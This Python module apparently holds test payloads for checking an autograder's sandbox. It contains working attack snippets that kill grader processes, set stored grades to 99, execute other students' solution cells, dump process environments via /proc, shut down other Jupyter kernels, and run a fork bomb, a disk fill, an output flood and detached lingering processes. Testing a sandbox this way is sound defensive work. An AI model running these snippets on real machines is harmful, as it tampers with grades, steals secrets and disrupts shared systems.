"""Attack code aimed at the machine: killing the grader (only offered in a PID namespace) and the attacks
the sandbox holds: writing the course, stealing answers, reading secrets, reaching other kernels,
flooding output, forking, filling the disk, lingering after the kernel."""

from __future__ import annotations

# Kills the grading process, the coordinator and the test runner: up the parent chain, then every
# process whose command line names them. Only offered where kernels get a PID namespace
# (`autograder.isolation`), where every one of these signals must miss.
KILL_GRADER = """\
import os, signal
if os.getpid() > 2:  # not in a PID namespace (1: unshare, 2: bwrap): fail rather than kill the machine
    os._exit(3)
def _parent(pid):
    with open(f"/proc/{pid}/stat") as f:
        return int(f.read().rsplit(")", 1)[1].split()[1])
_targets, _pid = set(), os.getppid()
while _pid > 1:
    _targets.add(_pid)
    _pid = _parent(_pid)
for _entry in os.listdir("/proc"):
    try:
        with open(f"/proc/{_entry}/cmdline", "rb") as f:
            if any(w in f.read() for w in (b"autograder", b"course", b"pytest", b"dask")):
                _targets.add(int(_entry))
    except (OSError, ValueError):
        pass
for _pid in _targets - {os.getpid()}:
    try:
        os.kill(_pid, signal.SIGKILL)
    except OSError:
        pass
"""


# --- attacks on the machine, held by the sandbox (autograder.sandbox) -------------------------------
# Each looks for the course from what a kernel can see (the `autograder` package's folder, /tmp, /proc)
# and would win points, damage later gradings or reach other students without the sandbox. They are
# only offered where the sandbox is available: unsandboxed, they would really do it.
_FIND_ROOT = """\
import os, pathlib, sys
_roots = {pathlib.Path(__import__("autograder").__file__).resolve().parents[1], pathlib.Path("/tmp")}
def _walk(*tops):
    for _top in tops:
        for _dir, _subdirs, _files in os.walk(_top):
            _subdirs[:] = [d for d in _subdirs if d not in ("proc", "sys", "dev")]
            yield pathlib.Path(_dir), _files
"""

WRITE_COURSE = _FIND_ROOT + """\
import sqlite3
for _dir, _files in _walk(*_roots):
    for _name in _files:
        if _name.endswith(".db"):
            try:
                with sqlite3.connect(str(_dir / _name)) as _db:
                    _db.execute("UPDATE grade SET manual_score = 99, auto_score = 99")
            except Exception:
                pass
        if _name.endswith((".ipynb", ".py")) and ".templates" in str(_dir):
            try:
                (_dir / _name).write_text("SANDBOX-ATTACK-MARKER")
            except Exception:
                pass
    for _target in (_dir, _dir / "__pycache__"):
        try:
            _target.mkdir(exist_ok=True)
            (_target / "zz_sandbox_attack.cpython-311.pyc").write_text("SANDBOX-ATTACK-MARKER")
        except Exception:
            pass
"""

STEAL_ANSWERS = _FIND_ROOT + """\
import json
_stolen = 0
for _dir, _files in _walk(*_roots):
    for _name in _files:
        if not _name.endswith(".ipynb"):
            continue
        try:
            _cells = json.loads((_dir / _name).read_text())["cells"]
        except Exception:
            continue
        for _cell in _cells:
            _src = "".join(_cell.get("source", ""))
            if _cell.get("cell_type") == "code" and ("BEGIN SOLUTION" in _src or "def " in _src):
                try:
                    exec(_src.replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""), globals())
                    _stolen += 1
                except Exception:
                    pass
print("cells taken from other notebooks:", _stolen)
"""

READ_SECRET = """\
import os
print(dict(os.environ))
for _pid in os.listdir("/proc"):
    try:
        print(open(f"/proc/{_pid}/environ", "rb").read())
    except Exception:
        pass
"""

REACH_KERNELS = _FIND_ROOT + """\
import json, time
from ipykernel.connect import get_connection_file
try:
    _own = get_connection_file()
except Exception:
    _own = ""
_ended = 0
_deadline = time.time() + 4
while time.time() < _deadline:
    _found = set()
    for _pid in os.listdir("/proc"):
        try:
            _words = open(f"/proc/{_pid}/cmdline", "rb").read().decode().split("\\0")
            _found.add(_words[_words.index("-f") + 1])
        except Exception:
            pass
    for _dir, _files in _walk("/tmp"):
        _found |= {str(_dir / f) for f in _files if f.startswith("kernel") and f.endswith(".json")}
    for _file in _found - {_own}:
        try:
            from jupyter_client import BlockingKernelClient
            _kc = BlockingKernelClient(connection_file=_file)
            _kc.load_connection_file()
            _kc.start_channels()
            _kc.shutdown()
            _ended += 1
        except Exception:
            pass
    time.sleep(0.2)
print("kernels ended:", _ended)
"""

FLOOD = """\
import sys
for _ in range(150):  # 150 MB in messages small enough to arrive: the grader keeps 2 MB of them
    sys.stdout.write("x" * 1_000_000)
    sys.stdout.flush()
sys.stdout.write("y" * 100_000_000)  # one message larger than any the grader accepts
sys.stdout.flush()
"""

PROCESSES = """\
import os, signal
_children = []
try:
    for _ in range(100_000):
        _pid = os.fork()
        if _pid == 0:
            signal.pause()
            os._exit(0)
        _children.append(_pid)
except OSError:
    pass
finally:  # also when the cell is interrupted: the test cells after it must run
    print("processes started before the limit:", len(_children))
    for _pid in _children:
        os.kill(_pid, signal.SIGKILL)
        os.waitpid(_pid, 0)
"""

DISK = """\
import os, pathlib, tempfile
_written = 0
for _folder in (pathlib.Path.cwd(), pathlib.Path.home(), pathlib.Path(tempfile.gettempdir())):
    for _i in range(40):
        try:
            with open(_folder / f"zz_fill_{_i}", "wb") as _f:
                _f.write(b"0" * 100_000_000)
            _written += 100
        except OSError:
            break
print("MB written:", _written)
for _folder in (pathlib.Path.cwd(), pathlib.Path.home(), pathlib.Path(tempfile.gettempdir())):
    for _p in _folder.glob("zz_fill_*"):
        _p.unlink()
"""

LINGER = """\
import subprocess, sys
subprocess.Popen(
    [sys.executable, "-c", "import time; time.sleep(900)", "SANDBOX-LINGER-MARKER"],
    start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
)
if __import__("os").fork() == 0:
    import os, time
    os.setsid()
    if os.fork() == 0:
        _argv = [sys.executable, "-c", "import time; time.sleep(900)", "SANDBOX-LINGER-MARKER"]
        os.execv(sys.executable, _argv)
    os._exit(0)
"""
# A secret the pipeline test puts into the grader's environment; no kernel may see it.
SECRET_VAR = "COURSE_TEST_GRADER_SECRET"
